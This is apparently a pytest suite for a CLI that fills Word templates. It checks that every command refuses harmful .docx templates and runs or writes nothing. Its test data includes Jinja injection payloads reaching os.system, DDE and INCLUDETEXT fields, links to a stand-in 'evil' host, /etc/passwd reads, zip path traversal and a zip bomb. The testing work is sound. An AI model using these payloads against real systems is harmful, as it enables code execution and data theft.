"""Harmful templates in every command that takes one: refused with the file's name, nothing run, nothing written."""

from __future__ import annotations

import io
import json
import os
import stat
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner

from cli import main
from contracts.resources import templates_root
from contracts.word.package import read_package, write_package
from tests.batch.help import TITLES, book, deal_file, good
from tests.word.own import p, template

DEAL = templates_root() / "examples" / "b2b" / "import-equipment.yaml"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RUN = "{{ self.__init__.__globals__.__builtins__.__import__('os').system('touch ran') }}"
PROPERTIES = (
    '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" '
    'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"><property name="a">'
    f"<vt:lpwstr>{RUN}</vt:lpwstr></property></Properties>"
)
CORE = (
    '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"'
    f' xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>{RUN}</dc:title></cp:coreProperties>'
)


def notes(kind: str) -> dict[str, str]:
    """A part with notes that hold a tag."""
    return {f"word/{kind}s.xml": f'<w:{kind}s {W}><w:{kind} w:id="1">{p(RUN)}</w:{kind}></w:{kind}s>'}  # fmt: skip


def field(instruction: str) -> bytes:
    return template(
        f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>a</w:t></w:r></w:fldSimple></w:p>'
    )


def with_part(name: str, content: bytes) -> bytes:
    """A package with one part more, or another one in place of its own."""
    file = io.BytesIO()
    parts = read_package(template(p("a"))) | {name: content}
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for each, data in parts.items():
            archive.writestr(each, data)
    return file.getvalue()


def linked(kind: str, target: str) -> bytes:
    """A package whose document is joined to something outside."""
    parts = read_package(template(p("a")))
    name = "word/_rels/document.xml.rels"
    link = (
        f'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )
    return write_package(parts | {name: parts[name].replace(b"</Relationships>", link.encode())})


BOX = f"<w:p><w:r><w:pict><w:txbxContent>{p(RUN)}</w:txbxContent></w:pict></w:r></w:p>"
HARMFUL: dict[str, Callable[[], bytes]] = {
    "code-in-the-body": lambda: template(p(RUN)),
    "code-in-a-header": lambda: template(p("a"), header=p(RUN)),
    "code-in-a-footer": lambda: template(p("a"), footer=p(RUN)),
    "code-in-footnotes": lambda: template(p("a"), parts=notes("footnote")),
    "code-in-endnotes": lambda: template(p("a"), parts=notes("endnote")),
    "code-in-properties": lambda: template(p("a"), core=CORE),
    "code-in-custom-properties": lambda: with_part("docProps/custom.xml", PROPERTIES.encode()),
    "code-in-a-text-box": lambda: template(BOX),
    "classes": lambda: template(p("{{ ''.__class__.__mro__[1].__subclasses__() }}")),
    "model-methods": lambda: template(p("{{ payment.model_dump() }}")),
    "markup": lambda: template(p("{{ '<w:p/>' | safe }}")),
    "files": lambda: template(p("{% include '/etc/passwd' %}")),
    "memory": lambda: template(p("{{ 'a' * 10000000000 }}")),
    "brackets": lambda: template(p("{{ " + "(" * 5000 + "x" + ")" * 5000 + " }}")),
    "dde": lambda: field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"),
    "include-text": lambda: field('INCLUDETEXT "\\\\\\\\evil\\\\share\\\\a.docx"'.replace('"', "&quot;")),
    "include-picture": lambda: field("INCLUDEPICTURE http://evil/x.png"),
    "macros": lambda: with_part("word/vbaProject.bin", b"x"),
    "embedded": lambda: with_part("word/embeddings/oleObject1.bin", b"x"),
    "entities": lambda: with_part(
        "word/document.xml", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'
    ),
    "broken-xml": lambda: with_part("word/footnotes.xml", b"<w:footnotes>"),
    "path-name": lambda: with_part("../../ran", b"x"),
    "bomb": lambda: with_part("word/media/image1.png", b"\0" * 20_000_000),
    "attached-template": lambda: linked("attachedTemplate", "http://evil/x.dotm"),
    "linked-picture": lambda: linked("image", "http://evil/x.png"),
    "linked-document": lambda: linked("subDocument", "file:///etc/passwd"),
    "no-word-file": lambda: b"PK nothing",
}  # fmt: skip


RENDERED = {"code-in-a-footer", "markup", "memory", "include-text", "macros", "linked-picture"}
"""Asked of `template render` too, which goes the way of `pack`."""


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The folder in which the commands run; what would run there leaves a trace."""
    monkeypatch.chdir(tmp_path)
    return tmp_path


def refused(*arguments: object) -> str:
    """What a command says that must refuse; the template is named in it."""
    result = CliRunner().invoke(main, [str(one) for one in (*arguments, "--json")])
    assert result.exception is None or isinstance(result.exception, SystemExit)
    answer = json.loads(result.stdout)
    errors = [one for one in answer["diagnostics"] if one["severity"] == "error"]
    assert answer["exit"] in {1, 2}
    assert errors
    assert any(one["place"].get("file", "").endswith("bad.docx") for one in errors), errors
    assert not answer["artifacts"]
    assert not any(
        one["message"].startswith("the template could not be read: the process") for one in errors
    ), errors
    return " ".join(one["message"] for one in errors)


@pytest.mark.parametrize("case", HARMFUL)
def test_a_harmful_template_is_refused_by_every_command(here: Path, case: str) -> None:
    file = here / "bad.docx"
    file.write_bytes(HARMFUL[case]())
    kind = ("--for", "specification")
    assert refused("template", "check", file, *kind)
    if case in RENDERED:
        assert refused("template", "render", file, DEAL, *kind, "-o", here / "out.docx")
    options = ("--doc", "specification", "--lang", "uk", "--format", "docx")
    assert refused("pack", DEAL, "-o", here / "out", *options, "--template", file)
    assert {one.name for one in here.iterdir()} == {"bad.docx"}


@pytest.mark.parametrize("case", ["code-in-a-header", "dde", "bomb", "attached-template"])
def test_a_batch_with_a_harmful_template_begins_nothing(here: Path, case: str) -> None:
    file = here / "bad.docx"
    file.write_bytes(HARMFUL[case]())
    table = book(here / "t.xlsx", {"Аркуш": [TITLES, good("С-1")]})
    before = {deal := deal_file(here), table, file}
    options = ("--deal", deal, "--doc", "specification", "-o", here / "out", "--workers", "1")
    assert refused("batch", table, *options, "--template", file)
    assert set(here.iterdir()) >= before
    assert not (here / "out").exists()
    assert not (here / "ran").exists()


def test_a_batch_makes_no_text_of_a_word_template(here: Path) -> None:
    file = here / "bad.docx"
    file.write_bytes(template(p("{{ this.number }}")))
    table = book(here / "t.xlsx", {"Аркуш": [TITLES, good("С-1")]})
    options = ("--deal", deal_file(here), "--doc", "specification", "-o", here / "out")
    result = CliRunner().invoke(
        main,
        [str(one) for one in ("batch", table, *options, "--template", file, "--format", "txt", "--json")],
    )  # fmt: skip
    rules = {one["rule"] for one in json.loads(result.stdout)["diagnostics"]}
    assert rules == {"template-format"}
    assert not (here / "out").exists()


def test_a_batch_makes_pdf_of_a_word_template_by_libreoffice(
    here: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    program = here / "bin" / "soffice"
    program.parent.mkdir()
    program.write_text(
        '#!/bin/sh\nfor n in "$@"; do case "$n" in *.docx) printf \'%%PDF\\n%%%%EOF\\n\' > "${n%.docx}.pdf";; esac; done\n'
    )
    program.chmod(program.stat().st_mode | stat.S_IXUSR)
    monkeypatch.setenv("PATH", f"{program.parent}{os.pathsep}{os.environ['PATH']}")
    file = here / "mine.docx"
    file.write_bytes(template(p("{{ this.number }}")))
    table = book(here / "t.xlsx", {"Аркуш": [TITLES, good("С-1")]})
    options = ("--deal", deal_file(here), "--doc", "specification", "-o", here / "out")
    arguments = ("batch", table, *options, "--template", file, "--format", "docx,pdf", "--workers", "1")  # fmt: skip
    result = CliRunner().invoke(main, [str(one) for one in arguments])
    assert result.exit_code == 0, result.output
    assert {one.suffix for one in (here / "out").glob("specification*")} == {".docx", ".pdf"}
    assert next((here / "out").glob("*.pdf")).read_bytes() == b"%PDF\n%%EOF\n"
